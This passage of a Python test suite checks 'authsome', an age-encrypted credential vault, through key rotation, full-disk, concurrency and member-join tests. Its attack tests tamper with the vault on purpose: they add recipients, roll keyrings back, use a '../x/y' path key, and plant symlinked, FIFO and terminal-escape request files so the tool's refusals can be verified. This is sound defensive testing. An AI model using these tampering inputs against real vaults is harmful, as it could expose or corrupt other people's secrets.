    for line in log.read_text().splitlines():
        if synced := re.search(r"fsync\(\d+<(.+?)>", line):
            steps.append(("sync", Path(synced[1])))
        elif renamed := re.search(r'rename\(".+", "(.+)"\)', line):
            steps.append(("place", Path(renamed[1])))
    profile = vault.own.path
    replaced = [number for number, step in enumerate(steps) if step == ("place", profile / "keyring.age")]
    between, settled = replaced[0], replaced[-1]
    drafts = [n for n, (what, path) in enumerate(steps) if what == "sync" and re.match(r"\.\w+\.age\.", path.name)]
    drafts = [n for n in drafts if steps[n][1].parent.parent.name == "connections"]
    placed = [n for n, (what, path) in enumerate(steps) if what == "place" and path in _entries(vault)]
    folders = [n for n, step in enumerate(steps) for each in _entries(vault) if step == ("sync", each.parent)]
    pins = [n for n, (what, path) in enumerate(steps) if what == "place" and path.parent.name == "pins"]
    assert len(drafts) == len(placed) == len(HELD)
    assert len(replaced) == len(pins) == 2
    assert max(drafts) < between < min(placed)
    assert ("sync", profile) in steps[between : min(placed)]
    assert max(placed) < min(folders) < max(folders) < settled
    assert pins[0] < between < settled < pins[1]
    assert ("sync", vault.home / "pins") in steps[pins[0] : between]


_FILL = """
import os, shutil, subprocess, sys
from pathlib import Path
from authsome.errors import AuthsomeError
from authsome.vault import Vault, roster

disk, fresh = Path(sys.argv[1]), Path(sys.argv[2])
subprocess.run(["mount", "-t", "tmpfs", "-o", "size=512k", "tmpfs", disk], check=True)
home, ballast = disk / "home", disk / "ballast"
page, full = 4096, 0

def opened():
    return Vault(home, "default", {"HOME": str(home)})

def all_open():
    vault = opened()
    assert [vault.read(*name).fields["api_key"] for name in vault.names()] == sys.argv[3:], vault.names()

for free in range(0, 40):
    shutil.copytree(fresh, home)
    status = os.statvfs(disk)
    with ballast.open("wb") as file:
        file.write(b"x" * (status.f_bavail * status.f_frsize - free * page))
    try:
        roster.remove(opened().own, "bob", 0.0)
        done = True
    except AuthsomeError as error:
        assert "no space left" in error.message, error.message
        done = False
        full += 1
        all_open()
    ballast.unlink()
    if not done:
        roster.remove(opened().own, "bob", 0.0)
    all_open()
    assert opened().own.keys().former is None
    assert not list((home / "profiles").rglob(".*"))
    shutil.rmtree(home)
    if done:
        break
print(full, done)
"""


@pytest.mark.slow
def test_a_full_disk_leaves_a_vault_that_opens_at_every_level(vault: Vault, tmp_path: Path) -> None:
    _somebody(vault)
    disk = tmp_path / "disk"
    disk.mkdir()
    spaces = ["unshare", "--mount", *(() if os.geteuid() == 0 else ("--user", "--map-root-user"))]
    tried = subprocess.run([*spaces, "--", "mount", "-t", "tmpfs", "tmpfs", disk], capture_output=True, check=False)
    if tried.returncode:
        pytest.skip(f"this machine forbids a small disk of our own: {tried.stderr.decode().strip()}")
    command = [*spaces, "--", sys.executable, "-c", _FILL, disk, vault.home, *HELD.values()]
    done = subprocess.run(command, capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stderr
    full, ended = done.stdout.split()
    assert int(full) > 3
    assert ended == "True"


MANY = 4_000
"""More would keep the disk from the tests beside this one; `benchmarks/vault.py` takes ten thousand."""

# Several at once.


def _remove_in_process(home: Path, who: str) -> None:
    roster.remove(_opened(home).own, who, 86400.0)


def _write_in_process(home: Path, number: int) -> None:
    provider = Catalogue(home).get("openai")
    vault = _opened(home)  # one for all: it has opened the keyring when the keys change
    for turn in range(40):
        vault.write(provider, f"c{number}", {"api_key": f"{OPENAI_KEY}{turn}"}, now=0.0)
        assert vault.read("anthropic", "default")


def _read_in_process(home: Path) -> None:
    vault = _opened(home)
    for _ in range(300):
        for name, key in HELD.items():
            entry = vault.read(*name)
            assert entry
            assert entry.fields == {"api_key": key}


def test_removals_writers_and_readers_at_once_lose_nothing(vault: Vault) -> None:
    former = vault.own.keys().identity
    gone = ["bob", "carol", "dave", "erin"]
    for name in gone:
        _somebody(vault, name)
    working = [(_remove_in_process, (vault.home, name)) for name in gone]
    writing = [(_write_in_process, (vault.home, number)) for number in range(2)]
    all_end(beside(*working, *writing, (_read_in_process, (vault.home,))), seconds=90)
    assert len(_names(vault)) == 1
    assert _again(vault).own.keys().epoch == 5
    _settled(vault, former)
    _holds_all(vault, {**HELD, **{("openai", f"c{number}"): f"{OPENAI_KEY}39" for number in range(2)}})


def test_who_has_the_vault_open_goes_on_with_the_new_keys(vault: Vault, openai: Provider) -> None:
    _somebody(vault)
    opened = _again(vault)
    opened.read("openai", "default")
    former = opened.own.keys().identity
    _remove(vault)
    assert opened.read("openai", "team")
    opened.write(openai, "new", {"api_key": OPENAI_KEY}, now=0.0)
    _settled(vault, former)


# Attacks on the files.


def _refused(vault: Vault, message: str) -> AuthsomeError:
    with pytest.raises(AuthsomeError, match=message) as caught:
        _again(vault).own.keys()
    assert caught.value.code is ExitCode.INTEGRITY
    return caught.value


def test_a_line_added_to_the_list_is_refused_by_every_command(authsome: CommandLine) -> None:
    authsome.login("openai", OPENAI_KEY)
    listed = authsome.home / "profiles" / "default" / "recipients.txt"
    stranger = Identity.generate("x").recipient
    listed.write_text(f"{listed.read_text()}# harmless\n{stranger}\n")
    before = _files(authsome.home)
    other = Identity.generate("x").recipient
    for words in (("list",), ("add", other), ("remove", "tester", "--yes"), ("review",)):
        done = authsome("recipients", *words)
        assert (done.code, stranger in done.err) == (5, True), done
    assert _files(authsome.home) == before


def test_a_keyring_that_is_for_one_more_than_its_roster_is_refused(vault: Vault) -> None:
    path = vault.own.path / "keyring.age"
    me, stranger = find_identity(vault.home, {}), Identity.generate("x")
    path.write_bytes(age.encrypt(me.open(path.read_bytes()), [me.recipient, stranger.recipient], me))
    assert "is encrypted to 2 recipients, its roster names 1" in _refused(vault, "somebody else may open it").message


def test_a_profile_that_was_rolled_back_to_before_a_removal_is_refused(vault: Vault) -> None:
    _somebody(vault)
    before = _files(vault.own.path)
    _remove(vault)
    for path, content in before.items():
        path.write_bytes(content)
    _refused(vault, "was rolled back: its keys are those before epoch 2")


def test_a_keyring_alone_that_was_rolled_back_is_refused(vault: Vault) -> None:
    _somebody(vault)
    path = vault.own.path / "keyring.age"
    before = path.read_bytes()
    _remove(vault)
    path.write_bytes(before)
    _refused(vault, "does not list the members the keyring names")


def test_another_machine_is_told_of_new_keys_and_asked(vault: Vault, tmp_path: Path) -> None:
    _somebody(vault)
    other = _opened(tmp_path / "other")
    shutil.copytree(vault.home, other.home)
    assert other.own.keys().epoch == 1  # its own pin
    _remove(vault)
    shutil.rmtree(other.own.path)
    shutil.copytree(vault.own.path, other.own.path)
    error = _refused(other, "has other keys than the ones known here, as after the removal of a member")
    assert "authsome trust" in (error.hint or "")
    assert Pins(other.home, {}).accept(other.own.path, _again(other).own.unchecked())
    _holds_all(other)


def test_a_second_clone_on_the_machine_of_a_removal_needs_no_second_word(vault: Vault, tmp_path: Path) -> None:
    projects = [tmp_path / "one", tmp_path / "two"]
    _somebody(vault)
    for project in projects:
        shutil.copytree(vault.own.path, project / ".authsome" / "profiles" / "default")

    def shared(project: Path) -> Vault:
        return Vault(vault.home, "default", {"HOME": str(vault.home)}, project=project)

    for project in projects:
        folder = shared(project).shared
        assert folder
        assert folder.keys().epoch == 1
    first = shared(projects[0]).shared
    assert first
    roster.remove(first, "bob", 0.0)
    old = _files(projects[1])
    shutil.rmtree(projects[1] / ".authsome")
    shutil.copytree(projects[0] / ".authsome", projects[1] / ".authsome")
    second = shared(projects[1]).shared
    assert second
    assert second.keys().epoch == 2
    for path, content in old.items():
        path.write_bytes(content)
    rolled_back = shared(projects[1]).shared
    assert rolled_back
    with pytest.raises(AuthsomeError, match="was rolled back"):
        rolled_back.keys()


def test_a_forgotten_clone_makes_no_new_one_pass_that_was_rolled_back(vault: Vault, tmp_path: Path) -> None:
    """Who was removed can push what was before; a clone that nobody has opened since still knows those keys."""
    _somebody(vault)

    def place(name: str) -> Folder:
        folder = tmp_path / name / ".authsome" / "profiles" / "default"
        if not folder.exists():
            shutil.copytree(vault.own.path, folder)
        found = Vault(vault.home, "default", {"HOME": str(vault.home)}, project=tmp_path / name).shared
        assert found
        return found

    for name in ("worked in", "forgotten"):
        assert place(name).keys().epoch == 1
    roster.remove(place("worked in"), "bob", 0.0)
    new = place("new")
    assert not new.accepted(new.unchecked())
    with pytest.raises(AuthsomeError, match="was rolled back: its keys are those before epoch 2") as caught:
        new.keys()
    assert "authsome trust" in (caught.value.hint or "")
    assert place("forgotten").keys().epoch == 1


@pytest.mark.parametrize(
    "exposed",
    [[], {"x": 1}, {"../x/y": {"generation": 1, "members": [], "since": ""}}, {"a/b": {"generation": "1"}}],
)
def test_a_keyring_with_a_nonsensical_exposure_is_refused(vault: Vault, exposed: object) -> None:
    path = vault.own.path / "keyring.age"
    me = find_identity(vault.home, {})
    text = me.open(path.read_bytes()).decode()
    text = text.replace('{"version": 1,', f'{{"version": 1, "exposed": {json.dumps(exposed)},')
    path.write_bytes(age.encrypt(text.encode(), [me.recipient], me))
    if exposed:
        _refused(vault, "is not a keyring of authsome")


# Who asks to become one.


@pytest.fixture
def team(authsome: CommandLine) -> CommandLine:
    """A project whose vault is checked in, and somebody who is no member yet."""
    authsome.login("openai", OPENAI_KEY)
    shutil.copytree(authsome.home / "profiles", authsome.project / ".authsome" / "profiles")
    authsome.declare("version: 1\n")
    return authsome


def _newcomer(team: CommandLine) -> CommandLine:
    made = CommandLine(team.root / "newcomer", {"AUTHSOME_HOME": str(team.root / "newcomer" / "home")})
    made.root.mkdir()
    (made.root / "project").symlink_to(team.project)
    return made


def _git(team: CommandLine, *words: str) -> str:
    named = ["-c", "user.name=New Comer", "-c", "user.email=new@example.com"]
    command = ["git", *named, *words]
    return subprocess.run(command, cwd=team.project, capture_output=True, check=True, text=True).stdout


@needs_git
def test_a_newcomer_asks_and_a_member_lets_them_in(team: CommandLine) -> None:
    _git(team, "init", "-q")
    _git(team, "add", ".")
    _git(team, "commit", "-qm", "vault")
    newcomer = _newcomer(team)
    asked = json.loads(newcomer("recipients", "join", "--name", "nadia", "--json").out)
    assert (newcomer.home / "identity.txt").exists()
    assert newcomer("get", "openai").code == 4
    _git(team, "add", ".")
    _git(team, "commit", "-qm", "nadia would like to join")
    assert team("vault", "verify", ".authsome").code == 0
    shown = team("recipients", "review", "--shared").out
    assert re.search(r"came with: +commit [0-9a-f]+ of \S+ by New Comer: nadia would like to join", shown)
    assert asked["fingerprint"] in shown
    assert asked["recipient"] in shown
    assert team("recipients", "review", "--shared", "--accept", asked["fingerprint"]).code == 0
    assert not list(team.project.rglob("requests/*.txt"))
    listed = json.loads(team("recipients", "list", "--shared", "--json").out)["recipients"]
    assert [each["name"] for each in listed][1:] == ["nadia"]
    theirs = {"AUTHSOME_IDENTITY_FILE": str(newcomer.home / "identity.txt")}
    profile = team.project / ".authsome" / "profiles" / "default"
    identity = find_identity(newcomer.home, theirs)
    assert keyring.open_keyring(profile, "default", identity).epoch == 1
    again = newcomer("recipients", "join", "--name", "nadia")
    assert again.out == "This key is a member of the profile `default` already, nothing was written.\n"
    assert not list(team.project.rglob("requests/*.txt"))


def test_a_member_answers_each_request_at_the_terminal(team: CommandLine) -> None:
    folder = team.project / ".authsome" / "profiles" / "default"
    asking = [Identity.generate("x").recipient for _ in range(2)]
    for number, recipient in enumerate(asking):
        joining.write_request(folder, f"number {number}", recipient)
    order = [each.recipient for each in joining.requests(folder) if isinstance(each, joining.Request)]
    person = Person([EXECUTABLE, "recipients", "review", "--shared"], team.environ(), team.project)
    for answer in ("yes", "no"):
        assert person.sees("They will read everything in this profile. Type yes: "), person.screen
        person.screen = ""
        person.types(f"{answer}\n")
    assert person.ends() == 0, person.screen
    assert order[0] in keyring.members(folder)
    assert order[1] not in keyring.members(folder)
    assert [path.name for path in (folder / "requests").iterdir()] == [joining.request_path(folder, order[1]).name]
    assert team("recipients", "review", "--shared", "--reject", age.fingerprint(order[1])).code == 0
    assert list((folder / "requests").iterdir()) == []


def _hostile(folder: Path, elsewhere: Path) -> Iterable[tuple[Path, str]]:
    """Write requests that are none, and yield what is to be said of each."""
    key, place = Identity.generate("x").recipient, folder / "requests"
    (elsewhere / "request").write_text(f"# x\n{key}\n")
    for name, content, said in (
        ("a.txt", f"# x\n{key}\n", "is not named after the key in it"),
        ("b.txt", f"# x\n{key}\n{Identity.generate('y').recipient}\n", "asks for 2 keys"),
        ("c.txt", "x" * 20_000, "is not a request"),
        ("d.txt", "x" * (9 << 20), "is too large to be what it should be"),
        ("e.txt", "", "is not a request"),
        ("f.txt", "age1mistaken\n", "is not a request"),
        ("g.txt", f"{key}\nAGE-SECRET-KEY-1MISTAKEN\n", "is not a request|holds a secret key"),
    ):
        (place / name).write_text(content)
        yield place / name, said
    linked = joining.request_path(folder, key)
    linked.symlink_to(elsewhere / "request")
    yield linked, "is a symbolic link"
    os.mkfifo(place / "h.txt")
    yield place / "h.txt", "is not a regular file"
    (place / "i.txt").mkdir()
    yield place / "i.txt", "is not a regular file"


def test_hostile_requests_are_said_to_be_none_and_hide_no_other(team: CommandLine) -> None:
    folder = team.project / ".authsome" / "profiles" / "default"
    elsewhere = team.root / "elsewhere"
    elsewhere.mkdir()
    honest = Identity.generate("x").recipient
    joining.write_request(folder, "\x1b]0;honest\x07\n# two", honest)
    hostile = dict(_hostile(folder, elsewhere))
    done = team("recipients", "review", "--shared", "--json")
    assert done.code == 0, done
    rows = json.loads(done.out)["requests"]
    assert [row["recipient"] for row in rows if row["problem"] is None] == [honest]
    problems = [row["problem"] for row in rows if row["problem"]]
    found = {problem.path: problem.what for problem in verify(team.project / ".authsome", private=False).problems}
    assert found.keys() == hostile.keys()
    assert len(problems) == len(hostile)
    for path, said in hostile.items():
        shown = str(path).replace(str(team.root), "~")
        assert any(shown in each and re.search(said, each) for each in problems), (shown, problems)
        assert re.search(said, found[path]), found[path]
    assert "\x1b" not in team("recipients", "review", "--shared").out


def test_a_folder_of_requests_that_leads_elsewhere_is_refused(team: CommandLine) -> None:
    folder = team.project / ".authsome" / "profiles" / "default"
    (team.root / "elsewhere").mkdir()
    (folder / "requests").symlink_to(team.root / "elsewhere")
    assert team("recipients", "review", "--shared").code == 5
    assert _newcomer(team)("recipients", "join").code == 5
    assert list((team.root / "elsewhere").iterdir()) == []


@pytest.mark.parametrize(
    "words",
    [*(f"recipients {each}" for each in ("list", "add age1x", "remove x --yes", "join", "review")), "list --exposed"],
)
def test_inside_a_run_no_member_is_shown_or_changed(authsome: CommandLine, words: str) -> None:
    authsome.login("openai", OPENAI_KEY)
    before = _files(authsome.home)
    authsome.env = {"AUTHSOME_RUN": "1"}
    assert authsome(*words.split()).code == 7
    assert _files(authsome.home) == before


# The commands.


def test_the_screens_of_recipients(authsome: CommandLine, snapshot: SnapshotAssertion) -> None:
    names = ("list", "add", "remove", "join", "review")
    screens = [str(authsome("recipients", *words)) for words in ((), *((name, "--help") for name in names))]
    screens.append(str(authsome("recipients", "list")))
    authsome.login("openai", OPENAI_KEY)
    bob = Identity.generate("x").recipient
    lines = [
        *("recipients list", "recipients list --json", f"recipients add {bob} --name bob", "recipients list"),
        *(f"recipients add {bob}", f"recipients add {bob} --json", "recipients remove tester@machine --yes"),
        *("recipients remove bo --yes", "recipients remove bob", "recipients remove bob --yes", "list --exposed"),
        *("list --exposed --json", "recipients list --shared", "recipients review", "recipients join"),
        "recipients review --accept SHA256:no",
    ]
    machine = os.uname().nodename
    screens += [str(authsome(*line.replace("machine", machine).split())) for line in lines]
    told = re.sub(r"(?<=\S) {2,}", "  ", "\n\n".join(screens).replace(f"tester@{machine}", "tester@machine"))
    told = re.sub(r"SHA256:[A-Za-z0-9+/]{43}", "SHA256:…", re.sub(r"age1[0-9a-z]{58}", "age1…", told))
    assert re.sub(r"20\d\d-\d\d-\d\dT[0-9:]+Z", "(now)", told) == snapshot


@pytest.mark.slow
@pytest.mark.timeout(600)
def test_thousands_of_credentials_get_new_keys_while_one_waits(tmp_path: Path, openai: Provider) -> None:
    home = tmp_path / "home"
    vault = _opened(home)
    vault.write(openai, "c0", {"api_key": OPENAI_KEY}, now=0.0)
    _somebody(vault)
    entry = vault.read("openai", "c0")
    assert entry
    keys = vault.own.keys()
    folder = vault.own.path / "connections" / "openai"
    for number in range(1, MANY):
        made = render(replace(entry, connection=f"c{number}"), keys, "default")
        (folder / f"c{number}.age").write_bytes(age.encrypt(made, [keys.identity.recipient], keys.identity))
    said: list[str] = []
    again = Vault(home, "default", {}, Given(say=said.append))
    started = time.monotonic()
    done = roster.remove(again.own, "bob", 0.0)
    taken = time.monotonic() - started
    print(f"{taken:.1f} s")
    assert done.renewed == MANY
    assert taken < 60
    assert any(re.fullmatch(rf"authsome: \d+ of {MANY} credentials encrypted anew …", line) for line in said)
    assert _again(vault).read("openai", f"c{MANY - 1}")
